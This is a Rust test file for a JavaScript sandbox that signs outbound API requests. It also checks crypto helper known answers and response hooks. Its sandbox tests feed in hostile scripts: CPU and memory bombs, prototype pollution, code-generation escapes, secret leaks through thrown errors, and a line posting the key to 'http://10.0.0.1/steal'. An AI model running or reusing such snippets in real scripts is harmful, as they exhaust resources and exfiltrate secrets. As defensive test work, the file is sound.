// Scripted recipes in their sandbox: hostile scripts are stopped within their limits with a clear
// reason, secrets never leave through an error, nothing a script changes survives it, and the
// worker pool stays healthy for the next request.
#![allow(clippy::unwrap_used)]

use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::{Duration, Instant};

use keygate_outbound::client::ProviderClient;
use keygate_outbound::script::{Bridge, Limits, ScriptPool, ScriptRequest};
use keygate_outbound::TokenManager;
use zeroize::Zeroizing;

const SECRET: &str = "APPKEY-super-secret-0123456789";

fn bridge() -> Arc<Bridge> {
    Arc::new(Bridge {
        handle: tokio::runtime::Handle::current(),
        client: ProviderClient::new(Duration::from_secs(1), false, ["api.example.com".to_string()].into())
            .unwrap(),
        timeout: Duration::from_secs(5),
        tokens: Arc::new(TokenManager::default()),
        token_key: "p:script".into(),
        secrets: vec![Zeroizing::new(SECRET.into())],
        holds_token_lock: Default::default(),
        mocks: None,
        trace: None,
    })
}

fn request() -> ScriptRequest {
    ScriptRequest {
        headers: BTreeMap::from([("content-type".into(), "application/json".into())]),
        uri: "/pay".into(),
        params: BTreeMap::from([("a".into(), "1".into())]),
        body: serde_json::json!({"data": "hello", "timestamp": "1700000000000"}),
    }
}

async fn run(pool: &ScriptPool, source: &str) -> (Result<ScriptRequest, String>, Duration) {
    let t = Instant::now();
    let r = pool
        .run(
            Arc::from(source),
            vec![Some(Zeroizing::new(SECRET.into()))],
            request(),
            Limits::default(),
            bridge(),
        )
        .await;
    (r, t.elapsed())
}

const NORMAL: &str = r#"function (reqHeaders, reqParams, reqBody, AppKey) {
    reqHeaders.set('X-Sign', sha256(reqBody.buildSignStr() + AppKey).toUpperCase());
    reqParams.set('b', '2');
    reqBody.set('appKey', 'visible-id');
}"#;

async fn assert_healthy(pool: &ScriptPool) {
    let (r, _) = run(pool, NORMAL).await;
    let out = r.unwrap();
    let expected = hex_upper_sha256(&format!("data=hello&timestamp=1700000000000{SECRET}"));
    assert_eq!(out.headers["x-sign"], expected);
    assert_eq!(out.params["b"], "2");
    assert_eq!(out.body["appKey"], "visible-id");
    assert!(out.body.get("polluted").is_none() && !out.headers.contains_key("polluted"));
}

fn hex_upper_sha256(s: &str) -> String {
    hex::encode_upper(keygate_outbound::crypto::sha256(s.as_bytes()))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_scripts_are_stopped_within_their_limits() {
    let pool = ScriptPool::new(2, 8);
    assert_healthy(&pool).await;

    let (r, took) = run(&pool, "function (h, p, b, k) { while (true) {} }").await;
    assert_eq!(r.unwrap_err(), "script exceeded its CPU time");
    assert!(took < Duration::from_millis(1000), "stopped after {took:?}");
    eprintln!("while(true) stopped after {took:?} (limit 50 ms)");
    assert_healthy(&pool).await;

    let (r, took) = run(
        &pool,
        "function (h, p, b, k) { var a = []; while (true) { a.push(new Array(100000).fill('xxxxxxxx')); } }",
    )
    .await;
    let e = r.unwrap_err();
    assert!(e.contains("memory") || e.contains("CPU"), "{e}");
    eprintln!("allocation bomb: {e} after {took:?}");
    assert_healthy(&pool).await;

    let (r, _) =
        run(&pool, "function (h, p, b, k) { function f(n) { return f(n + 1) + 1; } return f(0); }").await;
    let e = r.unwrap_err();
    assert!(e.contains("stack"), "{e}");
    assert_healthy(&pool).await;

    // Prototype tampering and global pollution die with the execution.
    let (r, _) = run(
        &pool,
        "function (h, p, b, k) { Object.prototype.polluted = 1; Array.prototype.sort = function () { return []; }; globalThis.sha256 = function () { return 'x'; }; }",
    )
    .await;
    assert!(r.is_ok());
    assert_healthy(&pool).await;

    // No files, modules, eval or code generation.
    let (r, _) = run(
        &pool,
        "function (h, p, b, k) { h.set('t', [typeof std, typeof os, typeof require, typeof eval, typeof process].join(',')); }",
    )
    .await;
    assert_eq!(r.unwrap().headers["t"], "undefined,undefined,undefined,undefined,undefined");
    let (r, _) =
        run(&pool, "function (h, p, b, k) { return (function(){}).constructor('return 1')(); }").await;
    assert!(r.unwrap_err().contains("script error"));

    // Other hosts: refused before anything is sent.
    let (r, _) =
        run(&pool, "function (h, p, b, k) { http_post_json('http://10.0.0.1/steal', {k: k}, {}); }").await;
    let e = r.unwrap_err();
    assert!(e.contains("not an allowed host"), "{e}");
    assert!(!e.contains(SECRET));

    // Exfiltration through an error message or a thrown value.
    for src in [
        "function (h, p, b, k) { throw new Error('key=' + k); }",
        "function (h, p, b, k) { throw k; }",
        "function (h, p, b, k) { null[k]; }",
    ] {
        let (r, _) = run(&pool, src).await;
        let e = r.unwrap_err();
        assert!(!e.contains(SECRET), "secret leaked through: {e}");
    }
    let (r, _) = run(&pool, "function (h, p, b, k) { throw new Error('key=' + k); }").await;
    assert!(r.unwrap_err().contains("[redacted]"));
    assert_healthy(&pool).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn helpers_match_known_answers() {
    let pool = ScriptPool::new(1, 4);
    let src = r#"function (h, p, b, k) {
        h.set('md5', md5('abc'));
        h.set('sha1', sha1('abc'));
        h.set('hmac', hmac_sha256('Jefe', 'what do ya want for nothing?'));
        var ct = aes_cbc_pkcs5_encrypt('0123456789abcdef', 'hello', 'fedcba9876543210');
        h.set('cbc', base64_encode(ct));
        h.set('cbc_back', aes_cbc_pkcs5_decrypt('0123456789abcdef', base64_encode(ct), 'fedcba9876543210'));
        h.set('gcm_back', aes_gcm_decrypt('0123456789abcdef0123456789abcdef', aes_gcm_encrypt('0123456789abcdef0123456789abcdef', 'gcm!')));
        h.set('b64', bytes_to_string(base64_decode(base64_encode('round trip'))));
        h.set('hex', hex_encode('AB'));
        h.set('url', url_encode('a b/c'));
        h.set('uuid', uuid());
        h.set('now', String(now_ms() > 1.7e12));
    }"#;
    let out = pool.run(Arc::from(src), vec![None], request(), Limits::default(), bridge()).await.unwrap();
    let h = &out.headers;
    assert_eq!(h["md5"], "900150983cd24fb0d6963f7d28e17f72");
    assert_eq!(h["sha1"], "a9993e364706816aba3e25717850c26c9cd0d89d");
    assert_eq!(h["hmac"], "5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843");
    let expected = keygate_outbound::crypto::b64(
        &keygate_outbound::crypto::aes_cbc_encrypt(b"0123456789abcdef", b"fedcba9876543210", b"hello")
            .unwrap(),
    );
    assert_eq!(h["cbc"], expected);
    assert_eq!(h["cbc_back"], "hello");
    assert_eq!(h["gcm_back"], "gcm!");
    assert_eq!(h["b64"], "round trip");
    assert_eq!(h["hex"], "4142");
    assert_eq!(h["url"], "a%20b%2Fc");
    assert_eq!(h["uuid"].len(), 36);
    assert_eq!(h["now"], "true");
}

#[test]
fn syntax_and_shape_are_checked_on_save() {
    assert!(keygate_outbound::script::check_syntax(NORMAL).is_ok());
    assert!(keygate_outbound::script::check_syntax("function (a, b, c) { if ( }")
        .unwrap_err()
        .contains("script error"));
    assert!(keygate_outbound::script::check_syntax("function (a, b) {}").is_err());
    assert!(keygate_outbound::script::check_syntax("alert(1)").is_err());
    let commented = format!("// header comment\n/* block\n comment */\n{NORMAL}");
    assert!(keygate_outbound::script::check_syntax(&commented).is_ok());
    assert_eq!(keygate_outbound::script::parameters(&commented).unwrap().len(), 4);
    // Code smuggled around the function is bounded like any execution.
    let t = Instant::now();
    assert!(keygate_outbound::script::check_syntax(
        "function (a, b, c) {}) + (function () { while (true) {} })() + (1"
    )
    .is_err());
    assert!(t.elapsed() < Duration::from_secs(2));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn response_hooks_reshape_and_can_drop_the_token() {
    let pool = ScriptPool::new(1, 4);
    let resp = ScriptRequest {
        headers: BTreeMap::from([("content-type".into(), "application/json".into())]),
        uri: String::new(),
        params: BTreeMap::new(),
        body: serde_json::json!({"code": "TOKEN_EXPIRED", "data": "aGVsbG8="}),
    };
    let hook = r#"function (respHeaders, respBody, status, AppKey) {
        respBody.set('data', bytes_to_string(base64_decode(respBody.get('data'))));
        respBody.set('status', status);
        respHeaders.set('x-hook', 'ran');
        if (respBody.get('code') === 'TOKEN_EXPIRED') { return 'clear_token'; }
    }"#;
    let (out, clear) = pool
        .run_response(
            Arc::from(hook),
            vec![Some(Zeroizing::new(SECRET.into()))],
            resp.clone(),
            200,
            Limits::default(),
            bridge(),
        )
        .await
        .unwrap();
    assert!(clear);
    assert_eq!(out.body["data"], "hello");
    assert_eq!(out.body["status"], 200);
    assert_eq!(out.headers["x-hook"], "ran");
    let keep = "function (h, b, status) { return {clearToken: status === 401}; }";
    let (_, clear) = pool
        .run_response(Arc::from(keep), vec![], resp.clone(), 200, Limits::default(), bridge())
        .await
        .unwrap();
    assert!(!clear);
    let (_, clear) =
        pool.run_response(Arc::from(keep), vec![], resp, 401, Limits::default(), bridge()).await.unwrap();
    assert!(clear);
}
